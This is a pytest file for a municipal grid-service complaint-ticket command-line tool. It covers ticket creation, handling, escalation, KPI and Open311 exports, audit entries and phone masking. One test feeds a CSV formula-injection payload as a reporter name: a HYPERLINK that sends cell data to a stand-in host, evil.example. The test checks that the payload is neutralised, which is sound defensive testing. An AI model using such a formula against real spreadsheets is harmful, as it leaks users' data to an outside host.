"""`tickets new/show/act/sweep/kpi/categories/open311/notices` round trips through main.py."""

from __future__ import annotations

import json
import stat
import time

import pytest

import main
from tests.app.tickets.conftest import IN_G1


@pytest.fixture
def url(db, site, tmp_path, monkeypatch, cli_user):
    monkeypatch.setenv("GCC_DATA_DIR", str(tmp_path / "data"))
    cli_user(db.url)
    return db.url


def run(capsys, *argv) -> tuple[int, str, str]:
    code = main.main(list(argv))
    out, err = capsys.readouterr()
    return code, out, err


def test_round_trip(url, capsys, tmp_path):
    code, out, _ = run(
        capsys,
        "tickets",
        "new",
        "--db",
        url,
        "--category",
        "SR01",
        "--lon",
        str(IN_G1[0]),
        "--lat",
        str(IN_G1[1]),
        "--text",
        "垃圾桶满溢",
        "--at",
        "2026-11-06T16:00",
        "--source",
        "patrol",
    )
    assert code == 0
    tid = out.strip()
    code, out, _ = run(capsys, "tickets", "show", tid, "--json", "--db", url)
    shown = json.loads(out)
    assert (shown["state"], shown["level"], shown["assignee"]["name"]) == ("dispatched", 3, "张小区")
    assert [g["code"] for g in shown["grid_chain"]] == ["S1", "C1", "G1"] and shown["source_zh"] == "网格巡查"
    code, out, _ = run(capsys, "tickets", "sweep", "--at", "2026-11-09T10:31", "--db", url)
    assert json.loads(out)["escalations"] == 1
    photo = tmp_path / "after.jpg"
    photo.write_bytes(b"jpeg")
    for argv in (
        ("start",),
        ("handle", "--result", "已清运", "--photo", str(photo)),
        ("verify",),
        ("close",),
        ("feedback", "--satisfaction", "基本满意"),
    ):
        code, out, err = run(capsys, "tickets", "act", tid, *argv, "--db", url)
        assert code == 0, err
    shown = json.loads(run(capsys, "tickets", "show", tid, "--json", "--db", url)[1])
    assert shown["state"] == "evaluated" and shown["photos"][0]["filename"] == "after.jpg"
    assert "升级" in run(capsys, "tickets", "show", tid, "--db", url)[1]
    figures = json.loads(run(capsys, "tickets", "kpi", "--grid", "C1", "--json", "--db", url)[1])
    assert figures["total"] == 1 and figures["satisfaction_rate"] == 1.0 and figures["on_time_rate"] == 0.0
    assert figures["by_grid"][0]["grid"] == "G1"
    notices = tmp_path / "notices.csv"
    assert run(capsys, "tickets", "notices", str(notices), "--db", url)[0] == 0
    assert "已清运" in notices.read_text(encoding="utf-8-sig")
    export = tmp_path / "open311.json"
    assert run(capsys, "tickets", "open311", str(export), "--db", url)[0] == 0
    request = json.loads(export.read_text(encoding="utf-8"))[0]
    assert (request["service_request_id"], request["status"], request["service_code"]) == (
        tid,
        "closed",
        "SR01",
    )


def test_errors_are_plain_words(url, capsys):
    code, _, err = run(capsys, "tickets", "act", "999", "start", "--db", url)
    assert code != 0 and "工单 999 不存在" in err
    code, out, _ = run(
        capsys,
        "tickets",
        "new",
        "--category",
        "SR01",
        "--lon",
        str(IN_G1[0]),
        "--lat",
        str(IN_G1[1]),
        "--text",
        "一",
        "--db",
        url,
    )
    code, _, err = run(
        capsys,
        "tickets",
        "new",
        "--category",
        "SR01",
        "--lon",
        str(IN_G1[0]),
        "--lat",
        str(IN_G1[1]),
        "--text",
        "二",
        "--db",
        url,
    )
    assert code != 0 and "--merge" in err
    code, _, err = run(capsys, "tickets", "act", out.strip(), "handle", "--db", url)
    assert code != 0 and "不能处置完成" in err
    code, _, err = run(
        capsys, "tickets", "new", "--category", "NOPE", "--lon", "1", "--lat", "1", "--text", "x", "--db", url
    )
    assert code != 0 and "未知分类" in err


def test_categories_json(url, capsys):
    listing = json.loads(run(capsys, "tickets", "categories", "--json", "--db", url)[1])
    first = listing["categories"][0]
    assert set(first) >= {"code", "name", "case_type", "limits"} and first["limits"]["3"] == "4h"


def test_the_sites_other_processes_hear_what_the_command_line_changes(url, db, capsys):
    """A ticket opened, moved or swept from the command line shows at every seat at once (the window's
    queues refresh on ticket changes): the commands tell the site as a seat's relay would."""
    from app.events import EventHub
    from app.store.change_log import ChangeLogRelay

    seat = EventHub()
    heard: list[tuple[tuple[int, ...], str]] = []
    seat.subscribe("ticket", lambda change: heard.append((change.ids, change.payload.action)))
    relay = ChangeLogRelay(db, seat, poll_s=0.02)
    relay.start()
    try:
        where = ("--lon", str(IN_G1[0]), "--lat", str(IN_G1[1]), "--at", "2026-11-06T16:00")
        code, out, _ = run(
            capsys, "tickets", "new", "--db", url, "--category", "SR01", "--text", "井盖缺失", *where
        )
        assert code == 0
        tid = int(out)
        assert run(capsys, "tickets", "act", str(tid), "start", "--db", url)[0] == 0
        assert run(capsys, "tickets", "sweep", "--at", "2026-11-09T10:31", "--db", url)[0] == 0
        deadline = time.monotonic() + 5
        while len(heard) < 3 and time.monotonic() < deadline:
            time.sleep(0.02)
    finally:
        relay.stop()
    assert heard == [((tid,), "opened"), ((tid,), "start"), ((tid,), "sweep")]


def test_a_ticket_printed_as_json_with_phones_is_audited(url, db, capsys):
    from sqlalchemy import select

    from app.audit import BULK_READ
    from app.models import AuditEntry

    code, out, _ = run(
        capsys, "tickets", "new", "--db", url, "--category", "SR01", "--lon", str(IN_G1[0]),
        "--lat", str(IN_G1[1]), "--text", "漏水", "--phone", "13812345678", "--reporter", "李梅",
    )  # fmt: skip
    tid = out.strip()
    run(capsys, "tickets", "show", tid, "--db", url)  # read on screen: no entry
    run(capsys, "tickets", "show", tid, "--json", "--db", url)  # the reporter's phone masked
    run(capsys, "tickets", "show", tid, "--json", "--full", "--reason", "回访", "--db", url)
    with db.session() as session:
        reads = session.scalars(select(AuditEntry).where(AuditEntry.action == BULK_READ)).all()
    assert [(r.entity, r.entity_id) for r in reads] == [("ticket", int(tid))] * 2
    assert [json.loads(r.detail)["fields"] for r in reads] == [
        ["assignee.phone"],  # a grid worker's duty phone
        ["reporter.phone", "assignee.phone"],
    ]


def test_the_notices_csv_writes_a_residents_formula_as_text(url, capsys, tmp_path):
    import csv

    reporter = '=HYPERLINK("http://evil.example/?d="&E3,"点击")'
    code, out, err = run(
        capsys, "tickets", "new", "--db", url, "--category", "SR01", "--lon", str(IN_G1[0]),
        "--lat", str(IN_G1[1]), "--text", "@SUM(1+1) 路灯不亮", "--reporter", reporter, "--phone", "13812345678",
    )  # fmt: skip
    assert code == 0, err
    tid = out.strip()
    for argv in (("start",), ("handle", "--result", "+已修复"), ("verify",), ("close",)):
        assert run(capsys, "tickets", "act", tid, *argv, "--db", url)[0] == 0
    notices = tmp_path / "notices.csv"
    assert run(capsys, "tickets", "notices", str(notices), "--db", url)[0] == 0
    with notices.open(encoding="utf-8-sig", newline="") as handle:
        rows = list(csv.reader(handle))[1:]
    assert rows and all(row[1] == "'" + reporter for row in rows)
    assert not any(cell.startswith(("=", "+", "-", "@")) for row in rows for cell in row)


def test_show_masks_the_reporters_phone_unless_full_with_a_reason(url, capsys):
    argv = [
        "tickets",
        "new",
        "--db",
        url,
        "--category",
        "SR01",
        "--lon",
        str(IN_G1[0]),
        "--lat",
        str(IN_G1[1]),
    ]
    code, out, _ = run(capsys, *argv, "--text", "噪音扰民", "--phone", "13912345678", "--force")
    tid = out.strip()
    code, out, _ = run(capsys, "tickets", "show", tid, "--json", "--db", url)
    assert code == 0 and "13912345678" not in out and json.loads(out)["reporter"]["phone"] == "139****5678"
    code, _, err = run(capsys, "tickets", "show", tid, "--json", "--full", "--db", url)
    assert code != 0 and "--reason" in err
    code, out, _ = run(capsys, "tickets", "show", tid, "--json", "--full", "--reason", "回访", "--db", url)
    assert code == 0 and json.loads(out)["reporter"]["phone"] == "13912345678"


def test_the_notice_list_masks_phones_and_is_owner_only(url, capsys, tmp_path):
    argv = [
        "tickets",
        "new",
        "--db",
        url,
        "--category",
        "SR01",
        "--lon",
        str(IN_G1[0]),
        "--lat",
        str(IN_G1[1]),
    ]
    tid = run(
        capsys, *argv, "--text", "路灯不亮", "--phone", "13912345678", "--reporter", "刘女士", "--force"
    )[1].strip()
    for action in (("start",), ("handle", "--result", "已修复"), ("verify",), ("close",)):
        assert run(capsys, "tickets", "act", tid, *action, "--db", url)[0] == 0
    notices = tmp_path / "notices.csv"
    assert run(capsys, "tickets", "notices", str(notices), "--db", url)[0] == 0
    text = notices.read_text(encoding="utf-8-sig")
    assert "刘女士" in text and "139****5678" in text and "13912345678" not in text
    assert stat.S_IMODE(notices.stat().st_mode) == 0o600
